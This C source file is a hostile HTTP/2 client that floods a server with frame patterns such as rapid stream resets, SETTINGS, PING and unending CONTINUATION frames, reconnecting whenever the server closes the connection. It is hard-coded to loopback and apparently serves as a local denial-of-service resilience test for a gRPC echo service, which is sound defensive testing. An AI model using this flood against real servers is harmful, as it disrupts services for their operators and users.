// A hostile HTTP/2 client: sends what is cheap to send and dear to receive until the server closes the
// connection, and comes back at once.
//
// usage: flood PORT KIND SECONDS
//   KIND: reset, settings, ping, continuation, data, window, or none, which only connects.
// The frames are made before the first connection, so that the server has the larger part of the work. Prints how
// many connections there were, and how many of them the server ended.
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FRAMES 100000
#define FRAME_BYTES 256  // of the longest, with its header
#define PIECE_BYTES (16 * 1024)
#define PATIENCE_SECONDS 1  // for a server that neither reads nor closes

enum {
    FRAME_DATA = 0,
    FRAME_HEADERS = 1,
    FRAME_RST_STREAM = 3,
    FRAME_SETTINGS = 4,
    FRAME_PING = 6,
    FRAME_WINDOW_UPDATE = 8,
    FRAME_CONTINUATION = 9,
};
enum { FLAG_END_HEADERS = 4 };

static uint8_t *output;
static size_t output_length;

static void die(const char *what) {
    fprintf(stderr, "flood: %s\n", what);
    exit(1);
}

static double seconds_now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec * 1e-9;
}

// MARK: frames

static void put_bytes(const void *bytes, size_t length) {
    memcpy(output + output_length, bytes, length);
    output_length += length;
}

static void put_frame(int type, int flags, uint32_t stream, const void *payload, size_t length) {
    uint8_t header[] = {
        length >> 16, length >> 8, length, type, flags,
        stream >> 24, stream >> 16, stream >> 8, stream,
    };
    put_bytes(header, sizeof header);
    if (length) put_bytes(payload, length);
}

// POST of the echo service's bidirectional method, in literals that enter no table.
static size_t make_headers(uint8_t *block) {
    static const char *const fields[][2] = {
        {":path", "/echo.Echo/Chat"},
        {":authority", "127.0.0.1"},
        {"content-type", "application/grpc"},
        {"te", "trailers"},
    };
    uint8_t *p = block;
    *p++ = 0x83;  // :method POST
    *p++ = 0x86;  // :scheme http
    for (size_t i = 0; i < sizeof fields / sizeof *fields; i++) {
        *p++ = 0;
        for (int part = 0; part < 2; part++) {
            *p++ = strlen(fields[i][part]);
            p = (uint8_t *)stpcpy((char *)p, fields[i][part]);
        }
    }
    return p - block;
}

static void make_frames(const char *kind) {
    static const uint8_t zeroes[8], cancel[] = {0, 0, 0, 8}, one[] = {0, 0, 0, 1};
    static const uint8_t table_size[] = {0, 1, 0, 0, 16, 0};  // SETTINGS_HEADER_TABLE_SIZE 4096
    uint8_t headers[FRAME_BYTES];
    size_t length = make_headers(headers);
    output = malloc((size_t)FRAMES * FRAME_BYTES);
    if (!output) die("no memory");
    put_bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
    put_frame(FRAME_SETTINGS, 0, 0, NULL, 0);
    if (!strcmp(kind, "none")) return;
    int is_continuation = !strcmp(kind, "continuation");
    if (is_continuation || !strcmp(kind, "data"))
        put_frame(FRAME_HEADERS, is_continuation ? 0 : FLAG_END_HEADERS, 1, headers, length);
    for (int i = 0; i < FRAMES; i++) {
        if (!strcmp(kind, "reset")) {
            put_frame(FRAME_HEADERS, FLAG_END_HEADERS, 2 * i + 1, headers, length);
            put_frame(FRAME_RST_STREAM, 0, 2 * i + 1, cancel, sizeof cancel);
        } else if (!strcmp(kind, "settings")) {
            put_frame(FRAME_SETTINGS, 0, 0, table_size, sizeof table_size);
        } else if (!strcmp(kind, "ping")) {
            put_frame(FRAME_PING, 0, 0, zeroes, sizeof zeroes);
        } else if (is_continuation) {
            put_frame(FRAME_CONTINUATION, 0, 1, zeroes, 0);
        } else if (!strcmp(kind, "data")) {
            put_frame(FRAME_DATA, 0, 1, NULL, 0);
        } else if (!strcmp(kind, "window")) {
            put_frame(FRAME_WINDOW_UPDATE, 0, 0, one, sizeof one);
        } else {
            die("no such kind");
        }
    }
}

// MARK: connections

// Returns whether it was the server that ended the connection.
static int flood_once(int port, double end) {
    struct sockaddr_in address = {
        .sin_family = AF_INET,
        .sin_port = htons(port),
        .sin_addr.s_addr = htonl(INADDR_LOOPBACK),
    };
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (void *)&address, sizeof address)) die(strerror(errno));
    size_t sent = 0;
    int has_closed = 0;
    double deadline = seconds_now() + PATIENCE_SECONDS;
    if (deadline > end) deadline = end;
    while (!has_closed && seconds_now() < deadline) {
        // The answers are not read, which is ruder.
        struct pollfd events = {fd, sent < output_length ? POLLOUT : 0, 0};
        if (poll(&events, 1, 10) <= 0) continue;
        if (events.revents & (POLLERR | POLLHUP)) {
            has_closed = 1;
        } else {
            // In pieces: a system call that copies megabytes holds up other processes of this core, such as clients
            // that are measured.
            size_t length = output_length - sent < PIECE_BYTES ? output_length - sent : PIECE_BYTES;
            ssize_t n = send(fd, output + sent, length, MSG_DONTWAIT | MSG_NOSIGNAL);
            if (n > 0) sent += n;
            if (n < 0 && errno != EAGAIN) has_closed = 1;
        }
    }
    close(fd);
    return has_closed;
}

int main(int count, char **words) {
    if (count != 4) die("usage: flood PORT KIND SECONDS");
    make_frames(words[2]);
    long connections = 0, ended = 0;
    double end = seconds_now() + atof(words[3]);
    while (seconds_now() < end) {
        ended += flood_once(atoi(words[1]), end);
        connections++;
    }
    printf("connections=%ld ended=%ld\n", connections, ended);
}
